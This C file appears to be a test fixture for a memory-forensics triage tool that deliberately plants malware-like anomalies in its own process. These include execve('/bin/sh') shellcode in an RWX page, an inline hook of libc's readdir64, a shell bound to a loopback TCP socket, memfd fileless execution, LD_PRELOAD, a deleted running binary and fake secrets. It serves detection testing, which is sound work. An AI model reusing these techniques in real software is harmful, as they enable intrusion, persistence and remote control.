// SPDX-License-Identifier: Apache-2.0
// Plants the in-memory anomalies of tests/data/real/triage.tar.zst (see
// tests/data/real/README.md) and prints, one "key value" a line, where:
//   plant SLEEP_COPY_TMP DELETED_EXE PRELOAD_LIB SHELL_PORT BEACON_PORT
// SLEEP_COPY_TMP: a copy of sleep under /tmp, run as is (exe-in-tmp);
// DELETED_EXE: a copy of sleep that is unlinked once its child runs it;
// PRELOAD_LIB: a shared object run with LD_PRELOAD by a sleep child.
// Then it waits for the dump. Addresses are fixed (MAP_FIXED_NOREPLACE),
// above the executable and below the libraries, so that CRIU's parasite
// (first executable VMA) never lands in a planted region.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define RWX_ADDR 0x600000000000UL	/* rwx anonymous page with shellcode */
#define RX_ADDR 0x600000010000UL	/* r-x anonymous page with code */
#define ELF_ADDR 0x600000020000UL	/* rw- anonymous copy of an ELF file */
#define PAGE 4096UL

/* x86-64 execve("/bin//sh", NULL, NULL): a well-known 27-byte sequence */
static const unsigned char shellcode[] = {
	0x31, 0xc0, 0x48, 0xbb, 0xd1, 0x9d, 0x96, 0x91, 0xd0, 0x8c, 0x97, 0xff,
	0x48, 0xf7, 0xdb, 0x53, 0x54, 0x5f, 0x99, 0x52, 0x57, 0x54, 0x5e, 0xb0,
	0x3b, 0x0f, 0x05,
};

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static void *map_at(unsigned long addr, size_t len, int prot)
{
	void *p = mmap((void *)addr, len, prot, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (p == MAP_FAILED || (unsigned long)p != addr)
		die("mmap fixed");
	return p;
}

/* the bytes of a file, read whole */
static size_t slurp(const char *path, unsigned char **out)
{
	int fd = open(path, O_RDONLY);
	struct stat st;
	if (fd < 0 || fstat(fd, &st) < 0)
		die(path);
	*out = malloc(st.st_size);
	if (!*out || read(fd, *out, st.st_size) != st.st_size)
		die("read");
	close(fd);
	return st.st_size;
}

/* an inline hook at the start of readdir64 in libc's text:
 * movabs rax, RX_ADDR; jmp rax (12 bytes), written after mprotect */
static void patch_libc(void)
{
	unsigned char hook[12] = { 0x48, 0xb8 };
	unsigned long target = RX_ADDR;
	void *sym = dlsym(RTLD_DEFAULT, "readdir64");
	Dl_info di;
	if (!sym || !dladdr(sym, &di))
		die("dlsym readdir64");
	memcpy(hook + 2, &target, 8);
	hook[10] = 0xff;
	hook[11] = 0xe0;
	unsigned long page = (unsigned long)sym & ~(PAGE - 1);
	printf("libc_path %s\nlibc_base %#lx\n", di.dli_fname, (unsigned long)di.dli_fbase);
	printf("patched_symbol readdir64\npatched_addr %#lx\npatched_file_offset %#lx\npatched_len %zu\n",
	       (unsigned long)sym, (unsigned long)sym - (unsigned long)di.dli_fbase, sizeof(hook));
	printf("patched_bytes ");
	for (size_t i = 0; i < sizeof(hook); i++)
		printf("%02x", hook[i]);
	printf("\n");
	if (mprotect((void *)page, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC))
		die("mprotect libc rwx");
	memcpy(sym, hook, sizeof(hook));
	if (mprotect((void *)page, PAGE, PROT_READ | PROT_EXEC))
		die("mprotect libc r-x");
}

static void plant_memory(void)
{
	unsigned char *p = map_at(RWX_ADDR, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC);
	memcpy(p, shellcode, sizeof(shellcode));
	printf("rwx_start %#lx\nrwx_end %#lx\nrwx_code_len %zu\n", RWX_ADDR, RWX_ADDR + PAGE, sizeof(shellcode));

	/* r-x anonymous: the machine code of slurp() copied, then made executable */
	p = map_at(RX_ADDR, PAGE, PROT_READ | PROT_WRITE);
	memcpy(p, shellcode, sizeof(shellcode));
	memcpy(p + 64, (void *)(uintptr_t)slurp, 256);
	if (mprotect(p, PAGE, PROT_READ | PROT_EXEC))
		die("mprotect rx");
	printf("anonx_start %#lx\nanonx_end %#lx\n", RX_ADDR, RX_ADDR + PAGE);

	unsigned char *elf;
	size_t n = slurp("/usr/bin/true", &elf);
	size_t len = (n + PAGE - 1) & ~(PAGE - 1);
	p = map_at(ELF_ADDR, len, PROT_READ | PROT_WRITE);
	memcpy(p, elf, n);
	free(elf);
	printf("elf_start %#lx\nelf_end %#lx\nelf_source /usr/bin/true\nelf_size %zu\n", ELF_ADDR, ELF_ADDR + len, n);

	patch_libc();
}

/* secrets copied into the heap (the literals stay in the file-backed .rodata) */
static void plant_secrets(void)
{
	static const char pem[] =
		"-----BEGIN RSA PRIVATE KEY-----\n"
		"MIIEowIBAAKCAQEAplantedckptfsFAKEKEYdoNotUseQ2hlY2twb2ludEZTdGVz\n"
		"dEtleU9ubHlOb3RBUmVhbEtleUF0QWxsUGxhbnRlZEJ5VGVzdHNSZWFsUGxhbnQu\n"
		"YzEyMzQ1Njc4OTBhYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ekFCQ0RFRkdISUpL\n"
		"-----END RSA PRIVATE KEY-----\n";
	static const char bearer[] =
		"Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJja3B0ZnMtcGxhbnQifQ.cGxhbnRlZC1zaWduYXR1cmU";
	char *a = strdup(pem), *b = strdup(bearer);
	printf("pem_addr %p\npem_len %zu\nbearer_addr %p\nbearer_len %zu\n", a, strlen(a), b, strlen(b));
}

static int tcp_to(int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)))
		die("connect");
	return s;
}

static pid_t spawn(char *const argv[], char *const envp[], int sock)
{
	pid_t pid = fork();
	if (pid < 0)
		die("fork");
	if (pid)
		return pid;
	if (sock >= 0) {
		dup2(sock, 0);
		dup2(sock, 1);
		dup2(sock, 2);
		close(sock);
	}
	execve(argv[0], argv, envp);
	_exit(127);
}

int main(int argc, char **argv)
{
	if (argc != 6) {
		fprintf(stderr, "usage: plant SLEEP_COPY_TMP DELETED_EXE PRELOAD_LIB SHELL_PORT BEACON_PORT\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	char *envp[] = { "PATH=/usr/bin:/bin", NULL };
	printf("pid %d\n", getpid());
	plant_memory();
	plant_secrets();

	int sh = tcp_to(atoi(argv[4]));
	char *sh_argv[] = { "/bin/sh", NULL };
	printf("shell_pid %d\n", spawn(sh_argv, envp, sh));
	close(sh);
	int beacon = tcp_to(atoi(argv[5]));
	printf("beacon_fd %d\n", beacon);

	char *tmp_argv[] = { argv[1], "100000", NULL };
	printf("tmp_exe_pid %d\n", spawn(tmp_argv, envp, -1));

	char *del_argv[] = { argv[2], "100001", NULL };
	printf("deleted_exe_pid %d\n", spawn(del_argv, envp, -1));

	char preload[512];
	snprintf(preload, sizeof(preload), "LD_PRELOAD=%s", argv[3]);
	char *pre_envp[] = { "PATH=/usr/bin:/bin", preload, NULL };
	char *pre_argv[] = { "/bin/sleep", "100002", NULL };
	printf("preload_pid %d\n", spawn(pre_argv, pre_envp, -1));

	/* memfd_create + fexecve of a copy of sleep */
	unsigned char *img;
	size_t n = slurp("/bin/sleep", &img);
	int mfd = memfd_create("payload", MFD_CLOEXEC);
	if (mfd < 0 || write(mfd, img, n) != (ssize_t)n)
		die("memfd");
	pid_t m = fork();
	if (m == 0) {
		char *mf_argv[] = { "payload", "100003", NULL };
		fexecve(mfd, mf_argv, envp);
		_exit(127);
	}
	close(mfd);
	printf("memfd_pid %d\nmemfd_name payload\n", m);

	int pk = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	if (pk < 0)
		die("packet socket");
	printf("packet_fd %d\n", pk);

	sleep(1);	/* the children have exec'd: remove the deleted exe */
	if (unlink(argv[2]))
		die("unlink");
	printf("deleted_exe_path %s\nready\n", argv[2]);
	for (;;)
		pause();
}
